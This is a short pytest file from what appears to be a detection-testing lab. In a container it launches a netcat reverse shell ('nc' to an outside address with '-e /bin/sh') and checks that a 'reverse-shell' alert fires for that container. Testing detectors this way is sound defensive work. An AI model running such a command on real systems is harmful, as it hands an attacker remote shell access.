"""A shell whose input and output are a connection to the attacker."""

from __future__ import annotations

import pytest

from tocsin.lab import outside
from tocsin.lab.range import Range

pytestmark = [pytest.mark.docker, pytest.mark.kernel]


def test_a_shell_on_a_socket(shooting_range: Range) -> None:
    container = shooting_range.container()
    container.start("nc", outside.ADDRESS, str(outside.PORT), "-e", "/bin/sh")
    alert = shooting_range.alert("reverse-shell", container)
    assert alert.container and alert.container.id == container.id
